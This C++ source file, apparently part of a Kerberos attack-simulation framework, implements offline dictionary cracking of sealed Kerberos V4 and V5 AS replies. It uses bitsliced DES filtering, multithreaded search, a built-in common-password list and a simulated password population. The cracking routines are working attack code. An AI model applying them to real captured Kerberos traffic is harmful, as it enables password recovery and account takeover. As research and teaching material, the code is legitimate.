#include "src/attacks/passwords.h"

#include <algorithm>
#include <atomic>
#include <cstdlib>
#include <optional>
#include <thread>

#include "src/crypto/checksum.h"
#include "src/crypto/des_slice.h"
#include "src/crypto/str2key.h"
#include "src/krb4/messages.h"
#include "src/krb5/enclayer.h"
#include "src/krb5/messages.h"
#include "src/obs/kobs.h"

namespace kattack {

namespace {

// Below this many candidates the thread-spawn overhead beats the win.
constexpr size_t kMinParallelCandidates = 64;

// Runs try_one(i) for i in [0, n) and returns the smallest matching index.
// With multiple workers, indices are claimed from a shared counter in order;
// once some worker records a hit at index h, every index ≥ h still
// unclaimed is abandoned (a worker's future claims are strictly increasing,
// so it can stop the moment its claim passes the best hit). Every index
// below the final best hit is fully tried, which makes the result — the
// minimal matching index — independent of the thread count.
template <typename TryFn>
std::optional<size_t> FirstMatch(size_t n, unsigned threads, const TryFn& try_one) {
  if (threads <= 1 || n < kMinParallelCandidates) {
    for (size_t i = 0; i < n; ++i) {
      if (try_one(i)) {
        return i;
      }
    }
    return std::nullopt;
  }

  std::atomic<size_t> next{0};
  std::atomic<size_t> best{n};
  auto worker = [&] {
    for (;;) {
      size_t i = next.fetch_add(1, std::memory_order_relaxed);
      if (i >= n || i >= best.load(std::memory_order_relaxed)) {
        break;
      }
      if (try_one(i)) {
        size_t cur = best.load(std::memory_order_relaxed);
        while (i < cur && !best.compare_exchange_weak(cur, i, std::memory_order_relaxed)) {
        }
      }
    }
  };
  std::vector<std::thread> pool;
  pool.reserve(threads - 1);
  for (unsigned t = 0; t + 1 < threads; ++t) {
    pool.emplace_back(worker);
  }
  worker();  // the calling thread is worker number `threads`
  for (auto& th : pool) {
    th.join();
  }
  size_t hit = best.load(std::memory_order_relaxed);
  if (hit < n) {
    return hit;
  }
  return std::nullopt;
}

// Chunked variant of FirstMatch for the bitsliced sweep: workers claim
// contiguous chunks of kDesSliceLanes candidates and try_chunk(start, len)
// returns the lowest matching absolute index within its chunk (scanning
// survivors in ascending order). The determinism argument is unchanged:
// chunks are claimed off the shared counter in increasing start order, a
// worker abandons only chunks that start at-or-past the current best hit,
// and within a chunk the lowest index wins — so every candidate below the
// final best is fully tried and the minimal matching index is returned
// regardless of thread count.
template <typename TryChunkFn>
std::optional<size_t> FirstMatchChunked(size_t n, unsigned threads, const TryChunkFn& try_chunk) {
  constexpr size_t kChunk = kcrypto::kDesSliceLanes;
  if (threads <= 1 || n < kMinParallelCandidates) {
    for (size_t start = 0; start < n; start += kChunk) {
      if (auto hit = try_chunk(start, std::min(kChunk, n - start))) {
        return hit;
      }
    }
    return std::nullopt;
  }

  std::atomic<size_t> next{0};
  std::atomic<size_t> best{n};
  auto worker = [&] {
    for (;;) {
      size_t start = next.fetch_add(kChunk, std::memory_order_relaxed);
      if (start >= n || start >= best.load(std::memory_order_relaxed)) {
        break;
      }
      if (auto hit = try_chunk(start, std::min(kChunk, n - start))) {
        size_t cur = best.load(std::memory_order_relaxed);
        while (*hit < cur && !best.compare_exchange_weak(cur, *hit, std::memory_order_relaxed)) {
        }
      }
    }
  };
  std::vector<std::thread> pool;
  pool.reserve(threads - 1);
  for (unsigned t = 0; t + 1 < threads; ++t) {
    pool.emplace_back(worker);
  }
  worker();
  for (auto& th : pool) {
    th.join();
  }
  size_t hit = best.load(std::memory_order_relaxed);
  if (hit < n) {
    return hit;
  }
  return std::nullopt;
}

// Batched V4 trial: derive candidate keys through the bitsliced engine,
// decrypt only the first sealed block under all of them at once (PCBC with
// zero IV: P0 = D(C0)), and reject every lane whose plaintext lacks the
// Seal4 magic — a 2^-32 false-positive filter that is a strict subset of
// Unseal4's own checks. Survivors are confirmed through the exact scalar
// accept predicate (Unseal4 + Decode), so the result is identical to the
// one-candidate-at-a-time path, lane for lane.
std::optional<size_t> TryChunk4(kerb::BytesView sealed, const std::string& salt,
                                const std::vector<std::string>& dictionary, size_t start,
                                size_t len) {
  if (sealed.size() < 8 || sealed.size() % 8 != 0) {
    return std::nullopt;  // Unseal4 rejects the framing for every candidate
  }
  kcrypto::DesBlock keys[kcrypto::kDesSliceLanes];
  kcrypto::DesSliceKeys ks;
  kcrypto::StringToKeyBatchSchedule(&dictionary[start], len, salt, keys, ks);

  kcrypto::DesSliceState st;
  kcrypto::DesSliceBroadcast(kcrypto::LoadU64BE(sealed.data()), st);
  kcrypto::DesSliceDecrypt(ks, st);
  uint64_t p0[kcrypto::kDesSliceLanes];
  kcrypto::DesSliceStore(st, p0, len);

  constexpr uint32_t kMagic4 = 0x4B524234;  // "KRB4"
  for (size_t i = 0; i < len; ++i) {
    if (static_cast<uint32_t>(p0[i] >> 32) != kMagic4) {
      continue;
    }
    kcrypto::DesKey guess(keys[i]);
    auto plain = krb4::Unseal4(guess, sealed);
    if (plain.ok() && kenc::Decode<krb4::ReplyBody4>(plain.value()).ok()) {
      return start + i;
    }
  }
  return std::nullopt;
}

// Batched V5 trial. The sealed EncAsRepPart is CBC under a zero IV with a
// random confounder up front, so the first plaintext block carries no
// structure — instead reject on (a) the checksum-type byte that directly
// follows the confounder and (b) PKCS#5 padding validity in the last block,
// both bitsliced single-block decrypts (P_i = D(C_i) ^ C_{i-1}) and both
// strict subsets of Unseal's checks. Combined false-positive rate is
// ~2^-13, so a survivor costs one scalar Unseal — the full predicate.
std::optional<size_t> TryChunk5(kerb::BytesView sealed, const std::string& salt,
                                const std::vector<std::string>& dictionary, size_t start,
                                size_t len, const krb5::EncLayerConfig& enc) {
  kcrypto::DesBlock keys[kcrypto::kDesSliceLanes];
  kcrypto::DesSliceKeys ks;
  kcrypto::StringToKeyBatchSchedule(&dictionary[start], len, salt, keys, ks);

  const size_t nblocks = sealed.size() / 8;
  const size_t type_offset = enc.use_confounder ? 8 : 0;
  const size_t type_block = type_offset / 8;
  auto confirm = [&](size_t i) {
    kcrypto::DesKey guess(keys[i]);
    return krb5::Unseal<krb5::EncAsRepPart5>(guess, sealed, enc).ok();
  };
  if (sealed.empty() || sealed.size() % 8 != 0 || nblocks <= type_block) {
    // Degenerate framing: no bitsliced filter applies; run the scalar
    // predicate per lane (Unseal rejects these cheaply anyway).
    for (size_t i = 0; i < len; ++i) {
      if (confirm(i)) {
        return start + i;
      }
    }
    return std::nullopt;
  }

  const uint8_t* data = sealed.data();
  auto plain_block = [&](size_t block, uint64_t out[kcrypto::kDesSliceLanes]) {
    kcrypto::DesSliceState st;
    kcrypto::DesSliceBroadcast(kcrypto::LoadU64BE(data + 8 * block), st);
    kcrypto::DesSliceDecrypt(ks, st);
    kcrypto::DesSliceStore(st, out, len);
    const uint64_t prev = block == 0 ? 0 : kcrypto::LoadU64BE(data + 8 * (block - 1));
    for (size_t i = 0; i < len; ++i) {
      out[i] ^= prev;
    }
  };

  uint64_t ptype[kcrypto::kDesSliceLanes];
  plain_block(type_block, ptype);
  uint64_t plast[kcrypto::kDesSliceLanes];
  const size_t last_block = nblocks - 1;
  if (last_block == type_block) {
    std::copy(ptype, ptype + len, plast);
  } else {
    plain_block(last_block, plast);
  }

  const auto expected_type = static_cast<uint8_t>(enc.checksum);
  for (size_t i = 0; i < len; ++i) {
    if (static_cast<uint8_t>(ptype[i] >> 56) != expected_type) {
      continue;
    }
    const unsigned pad = plast[i] & 0xff;
    if (pad < 1 || pad > 8) {
      continue;
    }
    bool pad_ok = true;
    for (unsigned b = 1; b < pad; ++b) {
      pad_ok = pad_ok && ((plast[i] >> (8 * b)) & 0xff) == pad;
    }
    if (!pad_ok) {
      continue;
    }
    if (confirm(i)) {
      return start + i;
    }
  }
  return std::nullopt;
}

}  // namespace

unsigned CrackWorkerThreads() {
  // Values above this add no throughput on any realistic dictionary and can
  // abort the process with std::system_error at thread creation.
  constexpr long kMaxThreads = 256;
  if (const char* env = std::getenv("KERB_CRACK_THREADS")) {
    long v = std::strtol(env, nullptr, 10);
    if (v >= 1) {
      return static_cast<unsigned>(std::min(v, kMaxThreads));
    }
  }
  unsigned hw = std::thread::hardware_concurrency();
  return hw == 0 ? 1 : hw;
}

const std::vector<std::string>& CommonPasswordDictionary() {
  static const std::vector<std::string> dictionary = [] {
    std::vector<std::string> base = {
        "password", "123456",   "12345678", "qwerty",   "letmein",  "monkey",   "dragon",
        "baseball", "football", "master",   "shadow",   "superman", "batman",   "trustno1",
        "abc123",   "welcome",  "login",    "admin",    "root",     "guest",    "hello",
        "secret",   "god",      "sex",      "money",    "love",     "freedom",  "whatever",
        "princess", "sunshine", "iloveyou", "starwars", "computer", "michelle", "jessica",
        "pepper",   "daniel",   "access",   "mustang",  "jordan",   "hunter",   "tigger",
        "joshua",   "pass",     "test",     "killer",   "george",   "andrew",   "charlie",
        "thomas",   "ranger",   "buster",   "hockey",   "soccer",   "harley",   "batman1",
        "wizard",   "maggie",   "summer",   "ashley",   "nicole",   "chelsea",  "biteme",
        "matthew",  "robert",   "danielle", "ferrari",  "cookie",   "athena",   "kerberos",
    };
    // Simple mutations: trailing digit, capitalized first letter.
    std::vector<std::string> out = base;
    for (const auto& word : base) {
      out.push_back(word + "1");
      std::string cap = word;
      cap[0] = static_cast<char>(std::toupper(static_cast<unsigned char>(cap[0])));
      out.push_back(cap);
    }
    return out;
  }();
  return dictionary;
}

std::string RandomStrongPassword(kcrypto::Prng& prng) {
  static const char kAlphabet[] =
      "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789!@#$%^&*";
  std::string out;
  size_t len = 12 + prng.NextBelow(6);
  out.reserve(len);
  for (size_t i = 0; i < len; ++i) {
    out.push_back(kAlphabet[prng.NextBelow(sizeof(kAlphabet) - 1)]);
  }
  return out;
}

std::vector<std::pair<std::string, bool>> MakePopulation(kcrypto::Prng& prng,
                                                         const PopulationConfig& config) {
  const auto& dictionary = CommonPasswordDictionary();
  std::vector<std::pair<std::string, bool>> out;
  out.reserve(static_cast<size_t>(config.size));
  for (int i = 0; i < config.size; ++i) {
    bool weak = prng.NextBelow(1000) < static_cast<uint64_t>(config.weak_fraction * 1000);
    if (weak) {
      out.emplace_back(dictionary[prng.NextBelow(dictionary.size())], true);
    } else {
      out.emplace_back(RandomStrongPassword(prng), false);
    }
  }
  return out;
}

std::optional<std::string> CrackSealedReply(kerb::BytesView sealed_reply_body,
                                            const krb4::Principal& victim,
                                            const std::vector<std::string>& dictionary,
                                            uint64_t* attempts_out) {
  const std::string salt = victim.Salt();
  std::optional<size_t> hit;
  if (kobs::Enabled()) {
    // Tracing observes each Unseal4 attempt; keep the one-candidate-at-a-time
    // path so the event stream (and golden traces) stay bit-exact.
    hit = FirstMatch(dictionary.size(), CrackWorkerThreads(), [&](size_t i) {
      kcrypto::DesKey guess = kcrypto::StringToKey(dictionary[i], salt);
      auto plain = krb4::Unseal4(guess, sealed_reply_body);
      return plain.ok() && kenc::Decode<krb4::ReplyBody4>(plain.value()).ok();
    });
  } else {
    hit = FirstMatchChunked(dictionary.size(), CrackWorkerThreads(),
                            [&](size_t start, size_t len) {
                              return TryChunk4(sealed_reply_body, salt, dictionary, start, len);
                            });
  }
  if (attempts_out != nullptr) {
    // Reported as the sequential early-exit cost — trials up to and
    // including the hit — so the figure is thread-count independent.
    *attempts_out = hit.has_value() ? static_cast<uint64_t>(*hit) + 1 : dictionary.size();
  }
  if (hit.has_value()) {
    return dictionary[*hit];
  }
  return std::nullopt;
}

std::optional<std::string> CrackSealedReply5(kerb::BytesView sealed_enc_part,
                                             const krb4::Principal& victim,
                                             const std::vector<std::string>& dictionary,
                                             uint64_t* attempts_out) {
  const krb5::EncLayerConfig enc;  // Draft 3 defaults, as on the wire
  const std::string salt = victim.Salt();
  std::optional<size_t> hit;
  if (kobs::Enabled()) {
    hit = FirstMatch(dictionary.size(), CrackWorkerThreads(), [&](size_t i) {
      kcrypto::DesKey guess = kcrypto::StringToKey(dictionary[i], salt);
      return krb5::Unseal<krb5::EncAsRepPart5>(guess, sealed_enc_part, enc).ok();
    });
  } else {
    hit = FirstMatchChunked(dictionary.size(), CrackWorkerThreads(),
                            [&](size_t start, size_t len) {
                              return TryChunk5(sealed_enc_part, salt, dictionary, start, len, enc);
                            });
  }
  if (attempts_out != nullptr) {
    *attempts_out = hit.has_value() ? static_cast<uint64_t>(*hit) + 1 : dictionary.size();
  }
  if (hit.has_value()) {
    return dictionary[*hit];
  }
  return std::nullopt;
}

}  // namespace kattack
